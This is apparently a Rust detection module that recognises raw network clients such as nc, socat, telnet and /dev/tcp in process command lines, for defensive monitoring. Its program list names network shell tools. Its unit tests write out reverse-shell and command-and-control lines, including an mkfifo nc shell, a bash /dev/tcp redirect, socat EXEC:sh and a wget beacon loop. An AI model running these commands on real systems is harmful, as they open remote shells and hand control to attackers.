//! Interactive raw clients by their command line: `telnet`, `nc`, `socat`, `/dev/tcp`.
//!
//! A command line is added evidence: whoever renames the program loses us only these points.

use alloc::string::{String, ToString as _};
use alloc::vec::Vec;

use serde::{Deserialize, Serialize};

use crate::naming::names;

const PROGRAMS: &[&str] = &[
    "telnet",
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "pwncat",
    "rlwrap",
];

const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];

/// What the client was told to do.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) enum Use {
    /// To hold a conversation.
    Talk,
    /// To find out whether a port is open (`nc -z`).
    Probe,
}

/// A raw client named in a command line, and where it was told to go.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct RawClient {
    /// The program's name.
    pub program: String,
    /// What for.
    pub purpose: Use,
    words: Vec<String>,
}

impl RawClient {
    /// Looks for a raw client in the words of a command line, also inside `sh -c '…'`.
    pub(crate) fn find<'a>(words: impl Iterator<Item = &'a str>) -> Option<Self> {
        let separators = |letter: char| letter.is_whitespace() || "'\";|&()<>`".contains(letter);
        let words: Vec<String> = words
            .flat_map(|word| word.split(separators))
            .filter(|word| !word.is_empty())
            .map(String::from)
            .collect();
        let place = words.iter().position(|word| {
            let name = word.rsplit('/').next().unwrap_or_default();
            PROGRAMS.contains(&name) || is_dev(word)
        })?;
        let program = words.get(place)?;
        let name = if is_dev(program) { "/dev/tcp" } else { program.rsplit('/').next()? };
        let rest = words.get(place..)?;
        let probes = rest.iter().any(|word| is_flag(word, 'z'));
        Some(Self {
            program: String::from(name),
            purpose: if probes { Use::Probe } else { Use::Talk },
            words: rest.to_vec(),
        })
    }

    /// Whether it was told to go to this host (a name or an address in text form) or port.
    pub(crate) fn mentions(&self, part: &str) -> bool {
        !part.is_empty()
            && self.words.iter().any(|word| {
                word == part || word.split(['/', ':', ',', '[', ']']).any(|piece| piece == part)
            })
    }

    /// Whether it was told to wait for calls at this port: `nc -l -p 4444`, `TCP-LISTEN:4444`.
    pub(crate) fn listens_at(&self, port: u16) -> bool {
        self.listens() && self.mentions(&port.to_string())
    }

    /// Whether it was told to wait for calls.
    pub(crate) fn listens(&self) -> bool {
        // What comes behind are another program's words.
        let own = self.words.iter().take_while(|word| !matches!(word.as_str(), "-e" | "-c"));
        own.into_iter().any(|word| is_flag(word, 'l') || is_listening(word))
    }

    /// The first word that could be a host, for a far end that was never reached.
    pub(crate) fn target(&self) -> Option<&str> {
        let mut words = self.words.iter().skip(1).map(String::as_str);
        words.find(|word| !word.starts_with('-') && word.contains('.') && !word.starts_with('/'))
    }
}

/// Whether a command is a line for a shell (`sh -c '…'`) that names this address: nobody had to
/// build an image to write it.
pub(crate) fn is_in_a_shells_line(command: &[String], address: &str) -> bool {
    let is_shell = |word: &String| SHELLS.contains(&word.rsplit('/').next().unwrap_or_default());
    let Some(place) = command.iter().position(is_shell) else { return false };
    let mut words = command.iter().skip(place + 1);
    words.any(|word| is_flag(word, 'c')) && words.any(|word| names(word, address))
}

fn is_dev(word: &str) -> bool {
    word.contains("/dev/tcp/") || word.contains("/dev/udp/")
}

/// `--listen`, or an address of socat's that is waited at, in any of its spellings.
fn is_listening(word: &str) -> bool {
    let kind = word.split(':').next().unwrap_or_default();
    let ends = |part: &str| {
        let rest = kind.len().checked_sub(part.len()).and_then(|start| kind.get(start..));
        rest.is_some_and(|rest| rest.eq_ignore_ascii_case(part))
    };
    word == "--listen" || ["-listen", "-l", "-recvfrom", "-recv"].into_iter().any(ends)
}

/// A short option, alone or among others (`-zv`).
fn is_flag(word: &str, flag: char) -> bool {
    word.strip_prefix('-')
        .is_some_and(|flags| !flags.starts_with('-') && flags.len() <= 4 && flags.contains(flag))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn find(line: &str) -> Option<RawClient> {
        RawClient::find(line.split(' '))
    }

    #[test]
    fn the_briefs_own_command() {
        let client = find("telnet c2.example.com 4444").unwrap();
        assert_eq!((client.program.as_str(), client.purpose), ("telnet", Use::Talk));
        assert!(client.mentions("c2.example.com") && client.mentions("4444"));
        assert!(!client.mentions("444") && !client.mentions("example.com"));
        assert_eq!(client.target(), Some("c2.example.com"));
    }

    #[test]
    fn a_client_inside_a_shell_line() {
        let line = RawClient::find(
            ["sh", "-c", "mkfifo /tmp/f; /bin/nc 198.51.100.10 9 </tmp/f|sh >/tmp/f"].into_iter(),
        );
        assert_eq!(line.unwrap().program, "nc");
        let bash = RawClient::find(["bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/9"].into_iter());
        assert!(bash.is_some_and(|client| client.mentions("198.51.100.10")));
    }

    #[test]
    fn socat_names_its_far_end_behind_a_colon() {
        let client = find("socat EXEC:sh TCP:198.51.100.10:4444").unwrap();
        assert!(client.mentions("198.51.100.10") && client.mentions("4444"));
    }

    #[test]
    fn whoever_waits_for_calls_listens() {
        for line in
            ["nc -l -p 4444 -e sh", "ncat -lvnp 4444", "socat TCP4-LISTEN:4444,fork EXEC:sh"]
        {
            let client = find(line).unwrap();
            assert!(client.listens_at(4444) && !client.listens_at(444), "{line}");
        }
        for line in ["nc 198.51.100.10 4444", "socat EXEC:sh TCP:198.51.100.10:4444"] {
            assert!(!find(line).unwrap().listens_at(4444), "{line}");
        }
    }

    #[test]
    fn a_shells_line_names_an_address_behind_its_flag() {
        let is_it = |line: &[&str]| {
            let line: Vec<String> = line.iter().copied().map(String::from).collect();
            is_in_a_shells_line(&line, "198.51.100.7")
        };
        let call = "while :; do wget -qO- http://198.51.100.7/a.css; sleep 60; done";
        assert!(is_it(&["sh", "-c", call]) && is_it(&["/bin/bash", "-ec", call]));
        assert!(is_it(&["busybox", "sh", "-c", call]) && is_it(&["tini", "--", "sh", "-c", call]));
        assert!(!is_it(&["sh", "-c", "curl http://198.51.100.70/"]), "another one");
        assert!(!is_it(&["sh", "/srv/run.sh", "198.51.100.7"]), "a script with an argument");
        assert!(!is_it(&["/srv/agent", "-c", "198.51.100.7"]), "an agent's own flag");
    }

    #[test]
    fn a_probe_is_no_conversation() {
        assert_eq!(find("nc -zv 198.51.100.10 4444").map(|c| c.purpose), Some(Use::Probe));
    }

    #[test]
    fn other_programs_are_not_raw_clients() {
        assert_eq!(find("python app.py --nc 3"), None);
        assert_eq!(find("ssh telnet.example.com"), None);
        assert_eq!(find("/opt/updater 198.51.100.10 6379"), None);
    }
}
